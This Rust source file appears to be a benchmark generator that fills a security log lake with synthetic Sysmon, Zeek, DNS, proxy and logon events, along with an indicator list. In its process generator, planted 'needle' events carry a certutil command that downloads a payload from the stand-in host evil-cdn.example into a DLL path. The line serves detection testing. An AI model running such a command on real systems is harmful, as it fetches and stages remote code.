//! Fills a lake with made events of five classes, through the same rows and the same writer as
//! `investigate`, for measurements: `fill FOLDER EVENTS [DAYS]`. Their raw lines go to `FOLDER/raw.jsonl`,
//! a list of 100,000 indicators, a few of which are in the events, to `FOLDER/indicators.csv`.
#![allow(clippy::panic, clippy::format_collect)] // A measuring tool, not the product.
#![allow(clippy::unwrap_used, clippy::print_stdout, clippy::indexing_slicing)]

use std::fs::File;
use std::io::{BufWriter, Write as _};
use std::time::Instant;

use lake::{EventRows, Lake};
use model::{Digest, LogSource, Micros, Provenance, Value};
use ocsf::{ColumnId, Event, Scalar};
use serde_json::json;

const DAY: u64 = 86_400_000_000;
const START: i64 = 1_793_491_200_000_000; // 2026-11-01T00:00:00Z
const BATCH: usize = 4_096;

/// A small generator of numbers, the same on every machine.
struct Dice(u64);

impl Dice {
    fn roll(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        mix(self.0)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.roll() % n
    }

    /// Small numbers are far more frequent than great ones, as users and hosts are.
    fn skewed(&mut self, n: u64) -> u64 {
        let share = (self.roll() >> 11) as f64 / (1_u64 << 53) as f64;
        ((n as f64 * share * share * share) as u64).min(n - 1)
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.skewed(from.len() as u64) as usize]
    }

    fn hex(&mut self, digits: usize) -> String {
        let text = format!("{:016x}{:016x}", self.roll(), self.roll());
        text[..digits].to_owned()
    }

    fn guid(&mut self) -> String {
        let h = self.hex(32);
        format!("{}-{}-{}-{}-{}", &h[..8], &h[8..12], &h[12..16], &h[16..20], &h[20..])
    }
}

fn mix(mut x: u64) -> u64 {
    x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^ (x >> 31)
}

const WORDS: [&str; 24] = [
    "account", "asset", "backup", "billing", "build", "cache", "cart", "deploy", "feed", "graph",
    "health", "image", "invoice", "login", "media", "metrics", "news", "order", "report", "search",
    "session", "static", "sync", "update",
];
const FIRST: [&str; 16] = [
    "anna", "ben", "carla", "dmitri", "eve", "farid", "grace", "hugo", "ines", "jonas", "kira",
    "leo", "mona", "nils", "olga", "pete",
];
const IMAGES: [&str; 12] = [
    r"C:\Windows\System32\svchost.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\conhost.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
    r"C:\Windows\System32\rundll32.exe",
    r"C:\Windows\System32\taskhostw.exe",
    r"C:\Windows\System32\wbem\WmiPrvSE.exe",
    r"C:\Windows\System32\schtasks.exe",
    r"C:\Windows\System32\certutil.exe",
];

fn word(dice: &mut Dice) -> &'static str {
    dice.pick(&WORDS)
}

fn user(n: u64) -> String {
    format!("{}.{}", FIRST[(n % 16) as usize], n / 16)
}

fn host(n: u64) -> String {
    format!("{}-{n:04}.corp.example", ["ws", "lap", "srv", "node"][(n % 4) as usize])
}

fn inside(n: u64) -> String {
    format!("10.{}.{}.{}", n / 65_536 % 16, n / 256 % 256, n % 256)
}

fn outside(n: u64) -> String {
    let m = mix(n ^ 0xabcd);
    format!("{}.{}.{}.{}", 11 + m % 160, m >> 8 & 255, m >> 16 & 255, 1 + (m >> 24) % 254)
}

fn domain(n: u64) -> String {
    let m = mix(n + 77);
    let top = ["com", "net", "org", "io", "example", "dev"][(m >> 40) as usize % 6];
    format!("{}{}.{top}", WORDS[(m % 24) as usize], WORDS[(m >> 8) as usize % 24])
}

fn sha256(n: u64) -> String {
    (0..4).map(|part| format!("{:016x}", mix(n * 4 + part))).collect()
}

/// One event: class, activity, columns, native fields.
struct Made {
    class: &'static str,
    activity: i32,
    product: &'static str,
    fields: Vec<(&'static str, Scalar<'static>)>,
    native: serde_json::Value,
}

fn t(text: impl Into<String>) -> Scalar<'static> {
    Scalar::Text(text.into().into())
}

fn i(n: u64) -> Scalar<'static> {
    Scalar::Int(n as i64)
}

fn process(dice: &mut Dice, time: &str, record: u64, needle: bool) -> Made {
    let (image, parent) = (dice.pick(&IMAGES), dice.pick(&IMAGES));
    let (who, machine) = (user(dice.skewed(2_000)), host(dice.skewed(3_000)));
    let (pid, parent_pid) = (dice.below(65_536), dice.below(65_536));
    let hash = sha256(dice.skewed(30_000));
    let (guid, parent_guid, logon) = (dice.guid(), dice.guid(), dice.hex(6));
    let line = match dice.below(4) {
        _ if needle => format!(
            "certutil -urlcache -split -f http://evil-cdn.example/{}.bin C:\\Users\\Public\\p.dll",
            dice.hex(8)
        ),
        0 => format!("\"{image}\" -k {} -p -s {}", word(dice), word(dice)),
        1 => format!("\"{image}\" --type=renderer --id={} --lang=en-US", dice.below(9_000)),
        2 => format!(
            "\"{image}\" /c C:\\Tools\\{}\\{}.bat {}",
            word(dice),
            word(dice),
            dice.below(500)
        ),
        _ => format!("\"{image}\" --config=C:\\ProgramData\\{}\\{}.xml", word(dice), word(dice)),
    };
    let level = dice.pick(&["Medium", "System", "High", "Low"]);
    let native = json!({
        "@timestamp": time,
        "winlog": {
            "channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1",
            "provider_name": "Microsoft-Windows-Sysmon", "record_id": record, "computer_name": machine,
            "event_data": {
                "UtcTime": time, "ProcessGuid": format!("{{{guid}}}"), "ProcessId": pid.to_string(),
                "Image": image, "CommandLine": line, "CurrentDirectory": "C:\\Windows\\system32\\",
                "User": format!("CORP\\{who}"), "LogonId": format!("0x{logon}"), "IntegrityLevel": level,
                "Hashes": format!("SHA256={hash}"), "ParentProcessGuid": format!("{{{parent_guid}}}"),
                "ParentProcessId": parent_pid.to_string(), "ParentImage": parent,
            },
        },
    });
    let name = |path: &str| path.rsplit('\\').next().unwrap_or(path).to_owned();
    Made {
        class: "process_activity",
        activity: 1,
        product: "windows",
        fields: vec![
            ("device.hostname", t(machine)),
            ("process.file.path", t(image)),
            ("process.file.name", t(name(image))),
            ("process.name", t(name(image))),
            ("process.cmd_line", t(line)),
            ("process.pid", i(pid)),
            ("process.uid", t(guid)),
            ("process.integrity", t(level)),
            ("process.file.hashes[sha-256].value", t(hash)),
            ("process.user.name", t(who.clone())),
            ("process.parent_process.file.path", t(parent)),
            ("process.parent_process.name", t(name(parent))),
            ("process.parent_process.pid", i(parent_pid)),
            ("actor.user.name", t(who)),
            ("actor.user.domain", t("CORP")),
            ("metadata.product.name", t("Sysmon")),
            ("metadata.product.vendor_name", t("Microsoft")),
            ("metadata.event_code", t("1")),
            ("metadata.log_name", t("Microsoft-Windows-Sysmon/Operational")),
        ],
        native,
    }
}

fn connection(dice: &mut Dice, time: i64, needle: bool) -> Made {
    let from = inside(dice.skewed(5_000));
    let to = if needle { "203.0.113.77".to_owned() } else { outside(dice.skewed(200_000)) };
    let port = [443, 80, 53, 22, 445, 3389][dice.skewed(6) as usize];
    let service = dice.pick(&["ssl", "http", "dns", "ssh", "smb"]);
    let (from_port, uid) = (1_024 + dice.below(64_000), format!("C{}", dice.hex(17)));
    let (sent, received) = (dice.skewed(200_000), dice.skewed(4_000_000));
    let native = json!({
        "ts": time as f64 / 1e6, "uid": uid, "id.orig_h": from, "id.orig_p": from_port,
        "id.resp_h": to, "id.resp_p": port, "proto": "tcp", "service": service,
        "duration": dice.below(30_000_000) as f64 / 1e6, "orig_bytes": sent, "resp_bytes": received,
        "conn_state": dice.pick(&["SF", "S0", "REJ", "RSTO"]), "local_orig": true,
        "local_resp": false, "missed_bytes": 0, "history": dice.pick(&["ShADadFf", "S", "ShADadfR"]),
        "orig_pkts": sent / 700 + 1, "orig_ip_bytes": sent + 40 * (sent / 700 + 1),
        "resp_pkts": received / 1_200 + 1, "resp_ip_bytes": received + 40 * (received / 1_200 + 1),
    });
    Made {
        class: "network_activity",
        activity: 6,
        product: "zeek",
        fields: vec![
            ("src_endpoint.ip", t(from)),
            ("src_endpoint.port", i(from_port)),
            ("dst_endpoint.ip", t(to)),
            ("dst_endpoint.port", i(port)),
            ("connection_info.uid", t(uid)),
            ("connection_info.protocol_name", t("tcp")),
            ("app_name", t(service)),
            ("traffic.bytes_out", i(sent)),
            ("traffic.bytes_in", i(received)),
            ("metadata.product.name", t("Zeek")),
            ("metadata.log_name", t("conn")),
        ],
        native,
    }
}

fn dns(dice: &mut Dice, time: i64) -> Made {
    let from = inside(dice.skewed(5_000));
    let base = domain(dice.skewed(20_000));
    let name = match dice.below(4) {
        0 => format!("{}.{base}", dice.hex(10)),
        1 => format!("www.{base}"),
        _ => base,
    };
    let (from_port, uid) = (1_024 + dice.below(64_000), format!("C{}", dice.hex(17)));
    let (kind, code) =
        (dice.pick(&["A", "AAAA", "HTTPS", "TXT"]), dice.pick(&["NOERROR", "NXDOMAIN"]));
    let answer = outside(dice.skewed(200_000));
    let native = json!({
        "ts": time as f64 / 1e6, "uid": uid, "id.orig_h": from, "id.orig_p": from_port,
        "id.resp_h": "10.0.0.53", "id.resp_p": 53, "proto": "udp", "trans_id": dice.below(65_536),
        "rtt": dice.below(900_000) as f64 / 1e6, "query": name, "qclass": 1,
        "qclass_name": "C_INTERNET", "qtype_name": kind, "rcode_name": code, "AA": false, "TC": false,
        "RD": true, "RA": true, "answers": [answer], "TTLs": [dice.below(3_600)], "rejected": false,
    });
    Made {
        class: "dns_activity",
        activity: 6,
        product: "zeek",
        fields: vec![
            ("src_endpoint.ip", t(from)),
            ("src_endpoint.port", i(from_port)),
            ("dst_endpoint.ip", t("10.0.0.53")),
            ("dst_endpoint.port", i(53)),
            ("connection_info.uid", t(uid)),
            ("query.hostname", t(name)),
            ("query.type", t(kind)),
            ("rcode", t(code)),
            ("answers", Scalar::Json(Value::from_json(json!([{"rdata": answer}])))),
            ("metadata.product.name", t("Zeek")),
            ("metadata.log_name", t("dns")),
        ],
        native,
    }
}

fn http(dice: &mut Dice, time: &str) -> Made {
    let (from, who) = (inside(dice.skewed(5_000)), user(dice.skewed(2_000)));
    let (site, server) = (domain(dice.skewed(20_000)), outside(dice.skewed(200_000)));
    let path = format!("/{}/{}/{}", word(dice), word(dice), dice.below(5_000));
    let url = format!("https://{site}{path}?sid={}&p={}", dice.hex(10), dice.below(50));
    let agent = format!(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/{}.0.0.0 Safari/537.36",
        118 + dice.skewed(12)
    );
    let method = dice.pick(&["GET", "POST", "PUT"]);
    let code = [200, 304, 404, 403, 500][dice.skewed(5) as usize];
    let (request, sent) = (dice.guid(), dice.skewed(1_000_000));
    let native = json!({
        "time": time, "client_ip": from, "user": who, "method": method, "url": url, "host": site,
        "status": code, "bytes_out": sent, "user_agent": agent, "server_ip": server,
        "action": if code == 403 { "block" } else { "allow" }, "request_id": request,
    });
    Made {
        class: "http_activity",
        activity: if method == "GET" { 3 } else { 6 },
        product: "proxy",
        fields: vec![
            ("src_endpoint.ip", t(from)),
            ("dst_endpoint.ip", t(server)),
            ("actor.user.name", t(who)),
            ("http_request.http_method", t(method)),
            ("http_request.url.url_string", t(url)),
            ("http_request.url.hostname", t(site)),
            ("http_request.url.path", t(path)),
            ("http_request.user_agent", t(agent)),
            ("http_request.uid", t(request)),
            ("http_response.code", i(code)),
            ("http_response.length", i(sent)),
        ],
        native,
    }
}

fn logon(dice: &mut Dice, time: &str, record: u64) -> Made {
    let (who, machine) = (user(dice.skewed(2_000)), host(dice.skewed(3_000)));
    let from = inside(dice.skewed(5_000));
    let failed = dice.below(20) == 0;
    let (kind, package) =
        ([3_u64, 2, 10, 5][dice.skewed(4) as usize], dice.pick(&["NTLM", "Kerberos"]));
    let (port, session) = (1_024 + dice.below(64_000), dice.hex(7));
    let native = json!({
        "@timestamp": time,
        "winlog": {
            "channel": "Security", "event_id": if failed { "4625" } else { "4624" },
            "provider_name": "Microsoft-Windows-Security-Auditing", "record_id": record,
            "computer_name": machine,
            "event_data": {
                "TargetUserName": who, "TargetDomainName": "CORP", "TargetLogonId": format!("0x{session}"),
                "LogonType": kind.to_string(), "IpAddress": from, "IpPort": port.to_string(),
                "LogonProcessName": "NtLmSsp", "AuthenticationPackageName": package,
                "WorkstationName": machine, "LogonGuid": format!("{{{}}}", dice.guid()),
                "SubStatus": if failed { "0xc000006a" } else { "0x0" },
            },
        },
    });
    Made {
        class: "authentication",
        activity: 1,
        product: "windows",
        fields: vec![
            ("device.hostname", t(machine)),
            ("user.name", t(who)),
            ("user.domain", t("CORP")),
            ("src_endpoint.ip", t(from)),
            ("src_endpoint.port", i(port)),
            ("session.uid", t(format!("0x{session}"))),
            ("logon_type_id", i(kind)),
            ("auth_protocol", t(package)),
            ("status_id", i(if failed { 2 } else { 1 })),
            ("metadata.product.name", t("Windows")),
            ("metadata.event_code", t(if failed { "4625" } else { "4624" })),
            ("metadata.log_name", t("Security")),
        ],
        native,
    }
}

fn made(dice: &mut Dice, n: u64, events: u64, time: Micros) -> Made {
    let text = time.to_string();
    if n % (events / 20).max(1) == 37 {
        return process(dice, &text, n, true);
    }
    if n % (events / 5).max(1) == 77 {
        return connection(dice, time.0, true);
    }
    match dice.below(100) {
        0..35 => process(dice, &text, n, false),
        35..65 => connection(dice, time.0, false),
        65..80 => dns(dice, time.0),
        80..92 => http(dice, &text),
        _ => logon(dice, &text, n),
    }
}

#[tokio::main]
async fn main() {
    let mut arguments = std::env::args().skip(1);
    let folder = arguments.next().unwrap_or_else(|| "made".to_owned());
    let events: u64 = arguments.next().map_or(100_000, |n| n.parse().unwrap());
    let span = arguments.next().map_or(7, |days| days.parse().unwrap()) * DAY;
    std::fs::create_dir_all(&folder).unwrap();
    let lake = Lake::open(&format!("{folder}/lake")).unwrap();
    let run = lake.run("made").await.unwrap();
    let writer = run.writer();
    let mut raw =
        BufWriter::with_capacity(1 << 20, File::create(format!("{folder}/raw.jsonl")).unwrap());
    let column = |path: &str| -> ColumnId {
        ocsf::column(path).unwrap_or_else(|| panic!("there is no column for {path}"))
    };
    let (mut dice, mut rows, parcel) = (Dice(7), EventRows::new(), Digest::of(b"made"));
    let (began, mut offset, mut pushing) = (Instant::now(), 0_u64, std::time::Duration::ZERO);
    for n in 0..events {
        let time = Micros(START + (u128::from(span) * u128::from(n) / u128::from(events)) as i64);
        let made = made(&mut dice, n, events, time);
        let class = ocsf::class(made.class).unwrap();
        let mut event = Event::new(class, time);
        event.activity_id = made.activity;
        event.severity = [1, 1, 1, 1, 1, 1, 1, 2, 3, 4][dice.below(10) as usize];
        for (path, value) in made.fields {
            event.set(column(path), value);
        }
        let line = made.native.to_string();
        let native = Value::from_json(made.native);
        raw.write_all(line.as_bytes()).unwrap();
        raw.write_all(b"\n").unwrap();
        let provenance = Provenance {
            parcel,
            offset,
            index: 0,
            parser: "json",
            definition: made.product,
            definition_version: 1,
        };
        offset += line.len() as u64 + 1;
        let source = LogSource::new(made.product, made.class, "");
        let push = Instant::now();
        rows.push(&event, &provenance, Micros(START), &native, line.as_bytes(), &source);
        pushing += push.elapsed();
        if rows.len() == BATCH || n + 1 == events {
            writer.write_events(&mut rows).unwrap();
        }
    }
    raw.flush().unwrap();
    let done = run.commit().await.unwrap();
    let mut list = BufWriter::new(File::create(format!("{folder}/indicators.csv")).unwrap());
    writeln!(list, "ip,feed").unwrap();
    for n in 0..100_000_u64 {
        // One in a thousand is an address of the events' tail.
        let address = match n % 1_000 {
            0 => outside(150_000 + n / 100),
            _ => format!("{}.{}.{}.{}", 200 + n % 20, n / 7 % 256, n / 256 % 256, n % 256),
        };
        writeln!(list, "{address},feed{}", n % 7).unwrap();
    }
    list.flush().unwrap();
    println!(
        "{events} events, {offset} bytes raw, {} bytes Parquet in {} files ({:.1} bytes an event); \
         {:.1} s, {:.2} µs an event in EventRows",
        done.bytes,
        done.files,
        done.bytes as f64 / events as f64,
        began.elapsed().as_secs_f64(),
        pushing.as_secs_f64() * 1e6 / events as f64
    );
}
